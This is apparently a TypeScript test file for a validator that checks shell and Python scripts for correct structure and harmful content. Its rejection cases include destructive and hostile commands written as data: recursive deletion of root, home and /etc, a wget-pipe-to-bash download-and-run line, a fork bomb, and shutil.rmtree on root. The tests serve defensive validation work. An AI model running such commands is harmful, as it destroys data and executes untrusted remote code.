import assert from "node:assert/strict";
import { test } from "uvu";
import { acceptsScript } from "../src/accepts/index.ts";
import { personal } from "./context.ts";
import { loadScript, writeFleet } from "./fleet.ts";

await loadScript();
const at = (path: string) => personal({ path });
const SHELL = at("/home/x/bin/tidy.sh");
const PYTHON = at("/home/x/bin/tidy.py");
const sh = (...lines: string[]) => `#!/bin/sh\n${lines.join("\n")}\n`;
const py = (...lines: string[]) => `#!/usr/bin/env python3\n${lines.join("\n")}\n`;

const GOOD: readonly string[] = [
  sh("echo done"),
  sh("if true; then echo if; else echo fi; fi"),
  sh(
    "while read -r line; do",
    '  case "$line" in',
    "    a) echo done ;;",
    "    *) : ;;",
    "  esac",
    "done < list",
  ),
  sh("until test -f x", "do", "  sleep 1", "done"),
  sh("f() {", '  echo "$1" # done', "}", "f"),
  sh("cat <<EOF", "if this were code", "EOF"),
  sh("for f in *; do [ -f $f ] && { echo $f; }; done"),
  sh("find . -name done -print"),
];
const BAD: readonly (readonly [string, RegExp])[] = [
  ["echo done\n", /shebang/],
  [sh(), /nothing/],
  [sh("if true; then echo x"), /never closed/],
  [sh("if true", "  echo x", "fi"), /nothing that opened|nothing opened/],
  [sh("for f in *; do echo; fi"), /nothing opened/],
  [sh("done"), /nothing opened/],
  [sh('echo "open'), /left open/],
  [sh("rm -rf /"), /harm/],
  [sh('rm -rf "$HOME"'), /harm/],
  [sh("rm -r -f /etc"), /harm/],
  [sh("wget -qO- http://x.lan/i | bash"), /harm/],
  [sh(":(){ :|:& };:"), /harm|nothing opened/],
];

test("what a shell would read is taken, and what it would not is not", () => {
  for (const text of GOOD) assert.equal(acceptsScript(text, SHELL), undefined, text);
  for (const [text, why] of BAD) assert.match(acceptsScript(text, SHELL) ?? "", why, text);
});

test("Python's blocks", () => {
  const good = [
    py("print(1)"),
    py("for a in b:", "    print(", "        a)", "print(2)"),
    py("def f(a,", "      b):", '    """doc', "  with: odd indent", '    """', "    return {a: b}"),
    py("if a: print(1)", "else:", "    pass"),
    py("x = [n for n in y if n]", "while x:", "    x.pop()  # else:"),
  ];
  for (const text of good) assert.equal(acceptsScript(text, PYTHON), undefined, text);
  const bad: readonly (readonly [string, RegExp])[] = [
    [py("if a", "    print(1)"), /colon|reason/],
    [py("if a:", "print(1)"), /indented/],
    [py("print(1)", "  print(2)"), /for no reason/],
    [py("if a:", "        b()", "    c()"), /like nothing/],
    [py("for a in b:"), /empty/],
    [py("print((1)"), /left open/],
    [py("import shutil", 'shutil.rmtree("/")'), /harm/],
  ];
  for (const [text, why] of bad) assert.match(acceptsScript(text, PYTHON) ?? "", why, text);
});

test("name, shebang and the text of before agree", () => {
  const text = sh("echo one two three four");
  assert.match(acceptsScript(py("print(1)"), SHELL) ?? "", /contradicts/);
  assert.match(acceptsScript(text, PYTHON) ?? "", /contradicts/);
  assert.match(acceptsScript(text.replace("/bin/sh", "/bin/bash"), SHELL, text) ?? "", /changed/);
  assert.match(acceptsScript(sh("ls"), SHELL, text) ?? "", /keeps nothing/);
  assert.equal(acceptsScript(text.replace("four", "five"), SHELL, text), undefined);
});

test("a thousand scripts of its own are taken", async () => {
  for (const { body, path } of await writeFleet(20, 10))
    assert.equal(acceptsScript(body, at(path)), undefined, `${path}\n${body}`);
});

test.run();
